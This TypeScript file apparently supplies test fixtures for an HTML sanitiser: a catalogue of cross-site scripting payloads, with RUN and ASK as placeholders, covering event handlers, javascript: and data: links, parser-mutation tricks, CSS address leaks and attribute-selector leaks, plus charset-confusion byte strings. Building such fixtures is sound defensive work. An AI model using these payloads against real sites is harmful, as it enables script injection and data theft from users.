/**
 * Pages that try to run a script, to ask for an address or to lead away, each in its own way. `RUN` stands for what a script
 * would do and `ASK` for an address.
 */
export const HOSTILE: Readonly<Record<string, string>> = {
  script: '<script>RUN</script>',
  'script from elsewhere': '<script src="ASK/a.js"></script><script type="module" src="ASK/b.js"></script>',
  'script in odd case, unclosed': '<ScRiPt/x>RUN',
  'script that a filter would make': '<scr<script>RUN</script>ipt>RUN</scr</script>ipt>',
  'onerror of a picture': '<img src=x onerror="RUN">',
  'handler without quotes, parted by slashes': '<img/src=x/onerror=RUN>',
  'handler after a form feed': '<img\fsrc=x\fonerror=RUN>',
  'handler after a broken quote': '<img """><script>RUN</script>">',
  'onload of the body': '<body onload="RUN">text',
  'two bodies': '<body><body onload="RUN" onpageshow="RUN">',
  'onfocus with autofocus': '<input autofocus onfocus="RUN"><textarea autofocus onfocus="RUN"></textarea>',
  'ontoggle of open details': '<details open ontoggle="RUN"><summary>s</summary></details>',
  'onstart of a marquee': '<marquee onstart="RUN" loop=1>m</marquee>',
  'animation event': '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="RUN">p</p>',
  'transition event': '<p id=t ontransitionend="RUN" style="transition:1s">t</p>',
  'javascript link': '<a href="javascript:RUN">press</a>',
  'javascript link, letters as entities': '<a href="&#106;&#x61;vascript&colon;RUN">press</a>',
  'javascript link, parted by tab and line end': '<a href="java&Tab;scr&NewLine;ipt:RUN">press</a>',
  'javascript link after control characters': '<a href="\u0001\u0002 javascript:RUN">press</a>',
  'data link': '<a href="data:text/html,<script>RUN</script>">press</a>',
  'vbscript link': '<a href="vbscript:RUN">press</a>',
  'link in a drawing': '<svg><a xlink:href="javascript:RUN"><text y=20>press</text></a></svg>',
  'area of a map': '<img usemap="#m" src=x><map name=m><area shape=default href="javascript:RUN"></map>',
  'ping of a link': '<a href="ASK/to" ping="ASK/ping" target=_top>press</a>',
  'drawing with script': '<svg><script>RUN</script></svg>',
  'drawing with onload': '<svg/onload=RUN>',
  'drawing with animate': '<svg><animate onbegin=RUN attributeName=x dur=1s></svg>',
  'drawing that sets a link': '<svg><a><set attributeName=href to="javascript:RUN"/><text y=20>press</text></a></svg>',
  'drawing with use': '<svg><use href="ASK/a.svg#x"></use><image href="ASK/a.png"></image></svg>',
  'drawing with foreign object':
    '<svg><foreignObject><iframe srcdoc="<script>RUN</script>"></iframe></foreignObject></svg>',
  'formula with link': '<math href="javascript:RUN"><mtext>press</mtext></math>',
  'formula with handler':
    '<math><maction actiontype="statusline#http://x" onclick="RUN" onload=RUN>press</maction></math>',
  'mutation by formula and style':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
  'mutation by form in a table':
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN></style></form>',
  'mutation by drawing and style': '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
  'mutation by noscript': '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
  'mutation by textarea': '<textarea><p title="</textarea><img src=x onerror=RUN>"></textarea>',
  'mutation by title': '<svg><title><style><img src="</style><img src=x onerror=RUN>"></title></svg>',
  'mutation by xmp': '<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>',
  'mutation by plain text': '<plaintext><img src=x onerror=RUN></plaintext><script>RUN</script>',
  'mutation by select': '<select><option><style></select><img src=x onerror=RUN></style></option></select>',
  'mutation by comment': '<!--><img src=x onerror=RUN>--><!--!><img src=x onerror=RUN>--!><img src=x onerror=RUN>',
  'conditional comment': '<!--[if gte IE 4]><script>RUN</script><![endif]--><![CDATA[<script>RUN</script>]]>',
  'comment never closed': '<!-- <script>RUN</script><p>x',
  template: '<template><img src=x onerror=RUN></template>',
  'shadow root': '<div><template shadowrootmode=open><img src=x onerror=RUN><script>RUN</script></template></div>',
  'frame of its own text': '<iframe srcdoc="&lt;script&gt;parent.RUN;RUN&lt;/script&gt;"></iframe>',
  'frame of a script':
    '<iframe src="javascript:RUN"></iframe><iframe src="data:text/html,<script>RUN</script>"></iframe>',
  'frame of a page': '<iframe src="ASK/page"></iframe><fencedframe></fencedframe>',
  'frame with text': '<iframe><img src=x onerror=RUN></iframe>',
  object: '<object data="javascript:RUN"></object><object data="ASK/o"><param name=movie value="ASK/p"></object>',
  embed: '<embed src="javascript:RUN"><embed src="ASK/e.swf" allowscriptaccess=always>',
  applet: '<applet code=x codebase="ASK/"></applet>',
  refresh: '<meta http-equiv="refresh" content="0;url=ASK/away">',
  'refresh in the body, odd case': 'text<META HTTP-EQUIV="Refresh" content="0; URL=javascript:RUN">',
  'policy of its own': '<meta http-equiv="Content-Security-Policy" content="script-src *"><script>RUN</script>',
  'set-cookie': '<meta http-equiv="set-cookie" content="a=b">',
  base: '<base href="ASK/" target="_top"><a href="x">press</a><img src="x.png">',
  'style sheet': '<link rel=stylesheet href="ASK/a.css"><link rel=preload as=script href="ASK/a.js">',
  prefetch: '<link rel="dns-prefetch" href="ASK"><link rel=prefetch href="ASK/p"><link rel="icon" href="ASK/i.ico">',
  import: '<style>@import "ASK/a.css";@import url(ASK/b.css);</style>',
  'addresses in a style sheet':
    '<style>p{background:url(ASK/a.png)}@font-face{font-family:x;src:url(ASK/f)}p{font-family:x}</style><p>p',
  'addresses in a style':
    '<p style="background:url(ASK/a);list-style:url(\'ASK/b\');cursor:url(ASK/c),auto;border-image:url(ASK/d)">p',
  'address with escapes': '<p style="background:\\75\\72\\6c(ASK/a)">p</p><style>p{background:u\\rl(ASK/b)}</style>',
  'address parted by comment': '<p style="background:ur/**/l(ASK/a);back/**/ground:url/**/(ASK/b)">p</p>',
  'address in a picture set':
    '<p style="background:image-set(\'ASK/a\' 1x);background:-webkit-image-set(url(ASK/b) 1x)">p</p>',
  'address in a variable': '<style>:root{--a:url(ASK/a)}p{background:var(--a)}</style><p>p</p>',
  expression: '<p style="width:expression(RUN);x:exp/**/ression(RUN)">p</p>',
  behaviour: '<p style="behavior:url(ASK/a.htc);-moz-binding:url(ASK/b.xml#x)">p</p>',
  'style that ends itself':
    '<style>p{color:red}</style\t><script>RUN</script><style>a{}<!--</style><img src=x onerror=RUN>-->',
  'style with markup in a string': '<style>p:before{content:"</st"}/*<img src=x onerror=RUN>*/</style>',
  'attribute selectors': '<style>input[value^=a]{background:url(ASK/leak)}</style><input value=abc>',
  'picture from elsewhere':
    '<img src="ASK/a.png" srcset="ASK/b.png 2x" lowsrc="ASK/c" dynsrc="ASK/d"><image src="ASK/e" onerror=RUN>',
  'picture of a drawing': "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>\">",
  'picture of a page':
    '<img src="data:text/html;base64,PHNjcmlwdD4="><img src="data:image/png;base64,AA==\' onerror=\'RUN">',
  'sources of a picture': '<picture><source srcset="ASK/a.webp"><img src="ASK/a.png"></picture>',
  background: '<body background="ASK/a"><table background="ASK/b"><tr><td background="ASK/c">x</table>',
  'sound and film':
    '<audio src="ASK/a" autoplay onerror=RUN></audio><video poster="ASK/b" src=x onerror=RUN><source src=x onerror=RUN></video>',
  track: '<video><track src="ASK/t" default></video><bgsound src="ASK/s">',
  'form that sends itself':
    '<form action="ASK/f"><input name=a><button formaction="javascript:RUN">press</button></form>',
  'picture that sends a form':
    '<form action="ASK/f"><input type=image src="ASK/i" onerror=RUN></form><isindex action="ASK/x" prompt=p>',
  'button that opens': '<button popovertarget=p onclick=RUN>press</button><div id=p popover onbeforetoggle=RUN>p</div>',
  dialog: '<dialog open oncancel=RUN><form method=dialog><button onclick=RUN>press</button></form></dialog>',
  'null bytes': '<scr\0ipt>RUN</scr\0ipt><img src=x on\0error=RUN><a href="java\0script:RUN">press</a>',
  'quote id taken': '<div id=quote onclick=RUN>x</div><a name=quote href="javascript:RUN">press</a>',
  'markup in attributes': '<p title="&quot;><script>RUN</script>" class=\'"><img src=x onerror=RUN>\'>p</p>',
  'markup as entities': '&lt;script&gt;RUN&lt;/script&gt;<p>&lt;img src=x onerror=RUN&gt;</p>',
  'markup in a back quote': '<img alt="``onerror=RUN" src=x><p title="` onmouseover=RUN `">p</p>',
  'attribute name with markup': '<p <img src=x onerror=RUN>>x</p><p a=">" b=\'<script>RUN</script>\'>',
  'frames of a frame set': '<frameset onload=RUN><frame src="javascript:RUN"><frame src="ASK/f"></frameset>',
  'custom element':
    '<x-a is=x onclick=RUN onload=RUN style="animation:x" contenteditable onfocus=RUN autofocus tabindex=0>x</x-a>',
  'import map':
    '<script type=importmap>{"imports":{"a":"ASK/a"}}</script><script type=speculationrules>{"prefetch":[{"source":"list","urls":["ASK/s"]}]}</script>',
  manifest: '<html manifest="ASK/m" onclick=RUN><p>x',
  portal: '<portal src="ASK/p" onload=RUN></portal>',
  'title that ends itself':
    '<title></title><script>RUN</script></title><title>&lt;/title>&lt;script>RUN&lt;/script></title>',
};

/** The same in bytes of other encodings, each with its Content-Type. */
export const HOSTILE_BYTES: Readonly<Record<string, readonly [bytes: Uint8Array, contentType: string]>> = {
  'GBK lead byte that takes the quote': [
    Buffer.from('<meta charset=gbk><p title="\x81">q</p><img alt="\xb0" src=x onerror=alert(1) y=">">', 'latin1'),
    'text/html; charset=gbk',
  ],
  'GB18030 with markup in trail bytes': [
    Buffer.from('<p>\x81\x3c\x81script>alert(1)\x81</script></p>\x84\x31\xa4\x37<script>alert(1)</script>', 'latin1'),
    'text/html; charset=gb18030',
  ],
  'UTF-7': [Buffer.from('+ADw-script+AD4-alert(1)+ADw-/script+AD4-'), 'text/html; charset=utf-7'],
  'ISO-2022-JP escape': [
    Buffer.from(
      '<meta charset=iso-2022-jp><p title="\x1b$B">q</p><img title="\x1b(B" onerror=alert(1) src=x>',
      'latin1',
    ),
    'text/html; charset=iso-2022-jp',
  ],
  'UTF-16': [Buffer.from('\ufeff<script>alert(1)</script><img src=x onerror=alert(1)>', 'utf16le'), 'text/html'],
  'overlong UTF-8': [
    Buffer.from('\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe', 'latin1'),
    'text/html; charset=utf-8',
  ],
  'encoding named late': [
    Buffer.from(`${' '.repeat(2000)}<meta charset=utf-7><script>alert(1)</script>`),
    'text/html; charset="><script>alert(1)</script>',
  ],
};
